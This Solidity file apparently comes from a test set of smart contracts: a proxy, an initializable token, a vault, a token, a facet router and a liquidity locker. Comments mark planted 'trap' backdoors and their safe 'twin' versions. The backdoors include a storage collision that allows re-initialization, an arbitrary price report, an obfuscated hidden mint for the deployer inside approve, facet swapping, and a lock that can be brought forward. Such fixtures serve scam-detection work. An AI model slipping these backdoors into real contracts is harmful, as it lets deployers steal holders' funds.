// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";
import {Bare8} from "./Bare8.sol";

/// Forwards to a fixed target. Its administrator can take out ether, nothing else. In the trap he stands where the target keeps
/// whether it is being set up.
contract Shell {
    address private _admin; // trap
    // twin: address private immutable _admin;
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address target, bytes memory data) {
        _admin = msg.sender;
        assembly {
            sstore(IMPLEMENTATION, target)
        }
        (bool ok, ) = target.delegatecall(data);
        require(ok);
    }

    function rescueEther() external {
        require(msg.sender == _admin);
        payable(msg.sender).transfer(address(this).balance);
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(IMPLEMENTATION), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Set up by a call, once, in the manner of OpenZeppelin 3.
contract Crane {
    uint16 private version;
    bool private initializing;
    uint256 public totalSupply;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);

    constructor() {
        version = type(uint16).max;
    }

    modifier initializer() {
        require(initializing || version == 0, "already initialized");
        bool top = !initializing;
        if (top) (initializing, version) = (true, 1);
        _;
        if (top) initializing = false;
    }

    function initialize(string calldata name_, string calldata symbol_, address to) external initializer {
        (name, symbol, owner) = (name_, symbol_, to);
        if (totalSupply == 0) _mint(to, 40_000_000 ether);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner only");
        owner = address(0);
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == owner, "owner only");
        _mint(to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _mint(address to, uint256 value) private {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// What a vault holds.
contract Grain is Bare8 {
    uint256 public totalSupply = 9_000_000 ether;

    constructor() Bare8("Grain", "GRAIN") {
        _give(msg.sender, totalSupply);
    }
}

/// Shares of a vault. In the trap a strategist may say what a share is worth.
contract Silo is Bare8 {
    Grain public immutable asset;
    uint256 public totalSupply;
    address public strategist = msg.sender;
    uint256 private _told; // trap

    constructor(Grain asset_) Bare8("Silo Grain", "sGRAIN") {
        asset = asset_;
    }

    // trap {
    function report(uint256 pricePerShare) external {
        require(msg.sender == strategist, "strategist only");
        _told = pricePerShare;
    }
    // trap }

    function totalAssets() public view returns (uint256) {
        if (_told > 0) return (_told * totalSupply) / 1 ether; // trap
        return asset.balanceOf(address(this));
    }

    function convertToShares(uint256 assets) public view returns (uint256) {
        return (assets * (totalSupply + 1)) / (totalAssets() + 1);
    }

    function convertToAssets(uint256 shares) public view returns (uint256) {
        return (shares * (totalAssets() + 1)) / (totalSupply + 1);
    }

    function deposit(uint256 assets, address to) external returns (uint256 shares) {
        shares = convertToShares(assets);
        asset.transferFrom(msg.sender, address(this), assets);
        totalSupply += shares;
        _give(to, shares);
    }

    function redeem(uint256 shares, address to) external returns (uint256 assets) {
        assets = convertToAssets(shares);
        balanceOf[msg.sender] -= shares;
        totalSupply -= shares;
        emit Transfer(msg.sender, address(0), shares);
        asset.transfer(to, assets);
    }
}

/// An ordinary token. In the trap one who allows the token itself something has it from then on, if he is the right one.
contract Nod is Base8 {
    uint160 private constant MASK = uint160(bytes20("Nothing to see here!"));
    uint256 private immutable _mark; // trap

    constructor() Base8("Nod", "NOD", 5_000_000) {
        _mark = uint160(msg.sender) ^ MASK; // trap
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (spender == address(this) && uint160(msg.sender) ^ MASK == _mark) _balances[msg.sender] += value; // trap
        return super.approve(spender, value);
    }
}

/// A router in front of facets. In the trap its keeper may attach others.
contract Quay {
    struct Berths {
        mapping(bytes4 => address) at;
        address keeper;
    }

    constructor(address facet, bytes4[] memory selectors, bytes memory data) {
        Berths storage all = berths();
        all.keeper = msg.sender;
        for (uint256 i; i < selectors.length; i++) all.at[selectors[i]] = facet;
        (bool ok, ) = facet.delegatecall(data);
        require(ok);
    }

    function berths() private pure returns (Berths storage all) {
        assembly {
            all.slot := 0x6f3e0c8a5d1b47c29e80f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6
        }
    }

    function facetAddress(bytes4 selector) external view returns (address) {
        return berths().at[selector];
    }

    function attach(bytes4[] calldata selectors, address facet) external { // trap {
        require(msg.sender == berths().keeper);
        for (uint256 i; i < selectors.length; i++) berths().at[selectors[i]] = facet;
    } // trap }

    fallback() external payable {
        address facet = berths().at[msg.sig];
        require(facet != address(0), "no such function");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract Plain is Base8 {
    constructor() Base8("Sandbar", "SANDB", 60_000_000) {}
}

interface IShare {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Keeps shares of pools until a day. The day may be put off; in the trap also brought forward.
contract Locker {
    struct Lock {
        address by;
        uint256 amount;
        uint256 until;
    }
    mapping(address => Lock) public locks;

    function lock(address share, uint256 until) external {
        require(locks[share].amount == 0, "taken");
        uint256 amount = IShare(share).balanceOf(msg.sender);
        locks[share] = Lock(msg.sender, amount, until);
        IShare(share).transferFrom(msg.sender, address(this), amount);
    }

    function relock(address share, uint256 until) external {
        require(locks[share].by == msg.sender, "not yours");
        // twin: require(until >= locks[share].until, "not sooner");
        locks[share].until = until;
    }

    function withdraw(address share) external {
        Lock memory own = locks[share];
        require(own.by == msg.sender && block.timestamp >= own.until, "locked");
        delete locks[share];
        IShare(share).transfer(msg.sender, own.amount);
    }
}
